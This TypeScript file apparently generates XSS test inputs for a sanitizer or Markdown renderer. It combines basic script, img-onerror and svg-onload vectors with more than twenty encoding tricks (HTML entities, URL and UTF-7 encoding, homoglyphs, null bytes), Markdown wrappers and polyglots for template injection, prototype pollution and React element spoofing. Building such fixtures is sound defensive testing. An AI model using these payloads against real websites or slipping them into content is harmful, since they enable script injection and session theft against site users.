import { code } from './marks.ts';

const plain = [
  `<script>${code}</script>`,
  `<img src=x onerror=${code}>`,
  `<svg/onload=${code}>`,
  `<a href="javascript:${code}">x</a>`,
  `"><details open ontoggle=${code}>`,
];

const hex = (text: string, write: (number: string) => string) =>
  [...text].map((sign) => write((sign.codePointAt(0) ?? 0).toString(16))).join('');
const brackets = (text: string, open: string, close: string) =>
  text.replaceAll('<', open).replaceAll('>', close);
/** Changes everything but the mark. */
const besideMark = (text: string, change: (piece: string) => string) =>
  text.split('§').map(change).join('§');

/** Encodings that a step could decode once too often. */
const writings: readonly ((text: string) => string)[] = [
  (text) => brackets(text, '&lt;', '&gt;'),
  (text) => brackets(text, '&lt', '&gt'),
  (text) => brackets(text, '&amp;lt;', '&amp;gt;'),
  (text) => brackets(text, '&#60;', '&#62;'),
  (text) => brackets(text, '&#x3c;', '&#x3e;'),
  (text) => brackets(text, '&#x3C', '&#x3E'),
  (text) => brackets(text, '\\u003c', '\\u003e'),
  (text) => brackets(text, '\\x3c', '\\x3e'),
  (text) => brackets(text, '\\<', '\\>'),
  (text) => brackets(text, '\uff1c', '\uff1e'),
  (text) => brackets(text, '\u2039', '\u203a'),
  (text) => brackets(text, '\u02c2', '\u02c3'),
  (text) => brackets(text, '\u013c', '\u013e'),
  (text) => brackets(text, '%3C', '%3E'),
  (text) => brackets(text, '%253C', '%253E'),
  (text) => brackets(text, '+ADw-', '+AD4-'),
  (text) => brackets(text, '<\0', '\0>'),
  (text) => brackets(text, '<\u200b', '>'),
  (text) => brackets(text, '\ud800<', '>\udfff'),
  (text) => brackets(text, '\u202e<', '>\u202c'),
  (text) => besideMark(text, encodeURIComponent),
  (text) => besideMark(text, (piece) => hex(piece, (number) => `&#x${number};`)),
  (text) => besideMark(text, (piece) => hex(piece, (number) => `\\u${number.padStart(4, '0')}`)),
  (text) => text.replace('script', '\u017fcript').replace('img', '\u0131mg'),
  (text) => text.replace(/(?<=<)[a-z]+/, (name) => name.toUpperCase()),
  (text) => text.replace(/(?<=<)[a-z]/, (letter) => `${letter}\0`),
];

/** Texts that Markdown turns into markup that nobody wrote. */
const markdown: readonly ((text: string) => string)[] = [
  (text) => `**${text}**`,
  (text) => `# ${text}`,
  (text) => `> ${text}`,
  (text) => `- ${text}\n- x`,
  (text) => `\`${text}\``,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`\`\`"><x y="\n${text}\n\`\`\``,
  (text) => `    ${text}`,
  (text) => `[${text}](/x)`,
  (text) => `[x](/x "${text}")`,
  (text) => `[x](/x '${text}')`,
  (text) => `![${text}](/x.png)`,
  (text) => `![x](/x.png "${text}")`,
  (text) => `![x](x"${text})`,
  (text) => `[![${text}](/x.png)](/x)`,
  (text) => `[x]: /x "${text}"\n\n[x]`,
  (text) => `| a | b |\n|---|---|\n| ${text} | x |`,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `<p title="\n${text}\n">`,
  (text) => `<https://x.example/${text}>`,
  (text) => `x\\\n${text}\n===`,
];

/** Polyglots that break out of several contexts at once. */
const polyglots = [
  `--></style></title></textarea></script></template>"'><img src=x onerror=${code}>`,
  `javascript:/*"/*'/*\`/*--></noscript></title></textarea></style></template></select></script><svg/onload=${code}//>`,
  `'"()&%<x><svg/onload=${code}>`,
  `";${code};//</script><script>${code}</script>`,
  `</script><svg><style><!--</style><img src=x onerror=${code}>`,
  `\`-${code}-\``,
  `'-${code}-'`,
  `"-${code}-"`,
  `\\'-${code}//`,
  `\${${code}}`,
  `#{${code}}`,
  `{{constructor.constructor('${code}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join;$eval('${code}')}}`,
  `<%= ${code} %>`,
  `{price:"><img src=x onerror=${code}>}`,
  `{price:<script>${code}</script>}`,
  `\u2028${code}\u2029//`,
  `);${code};(`,
  `]]>"'><script>${code}</script><![CDATA[`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${code}>"}}`,
  `__proto__[innerHTML]=<img src=x onerror=${code}>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${code}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${code}"}}`,
  `<!--#exec cmd="${code}"-->`,
  `x" xlink:href="javascript:${code}" onclick="${code}" style="position:fixed;inset:0`,
];

/** Texts that are harmless until they are parsed, unescaped or joined once more. */
export const disguises: readonly string[] = [
  ...writings.flatMap((write) => plain.map(write)),
  ...markdown.flatMap((write) => plain.map(write)),
  ...polyglots,
];
